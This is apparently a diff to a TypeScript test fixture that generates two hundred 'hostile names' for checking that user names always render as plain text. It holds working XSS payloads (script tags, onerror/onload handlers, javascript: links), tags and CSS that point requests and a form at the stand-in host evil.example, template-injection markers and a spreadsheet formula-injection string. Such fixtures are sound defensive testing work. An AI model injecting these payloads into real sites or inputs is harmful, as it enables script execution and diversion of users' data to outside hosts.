@@ -1,7 +1,7 @@
-/** Names as an attacker, a careless copy or a rare family would have them. None may be more than text anywhere. */
 const long = '阿'.repeat(56);
 
-export const hostileNames: readonly string[] = [
+/** Forty written by hand: an attacker's, a careless copy's, a rare family's. */
+const written: readonly string[] = [
   '<script>alert(1)</script>',
   '"><script>alert(2)</script>',
   "'><script>alert(3)</script>",
@@ -43,4 +43,37 @@ export const hostileNames: readonly string[] = [
   '𠮷䶮𬭎·买买提',
   '👩‍👩‍👧‍👦家🏳️‍🌈庆',
   `${long}长`,
+];
+
+/** What ends the place in which a name could stand. */
+const endings = ['', '">', "'>", '</title>', '</textarea>', '</style>', '-->', '`}'] as const;
+
+/** What would do something outside of text; `n` tells the names apart. */
+const payloads: readonly ((n: number) => string)[] = [
+  (n) => `<script>alert(${n})</script>`,
+  (n) => `<img src=x onerror=alert(${n})>`,
+  (n) => `<svg onload=alert(${n})>`,
+  (n) => `<svg><animate onbegin=alert(${n})>`,
+  (n) => `<details open ontoggle=alert(${n})>`,
+  (n) => `<input onfocus=alert(${n}) autofocus>`,
+  (n) => `<video src=x onerror=alert(${n})>`,
+  (n) => `<a href=javascript:alert(${n})>看</a>`,
+  (n) => `<iframe srcdoc=x id=f${n}>`,
+  (n) => `<object data=x id=o${n}>`,
+  (n) => `<embed src=x id=e${n}>`,
+  (n) => `<base href=//evil.example/${n}>`,
+  (n) => `<form action=//evil.example/${n}>`,
+  (n) => `<link rel=preload href=//evil.example/${n}>`,
+  (n) => `<img srcset=//evil.example/${n}>`,
+  (n) => `<style>@import'//evil.example/${n}'`,
+  (n) => `<p style=background:url(//evil.example/${n})>`,
+  (n) => `<b hidden>${n}</b>`,
+  (n) => `{{x${n}}}<%=x${n}%>`,
+  (n) => `=1+${n}|"x"!A0`,
+];
+
+/** Two hundred names that try to be more than text. None may be anything else anywhere. */
+export const hostileNames: readonly string[] = [
+  ...written,
+  ...endings.flatMap((ending, e) => payloads.map((make, p) => `${ending}${make(1000 + e * 100 + p)}`)),
 ];
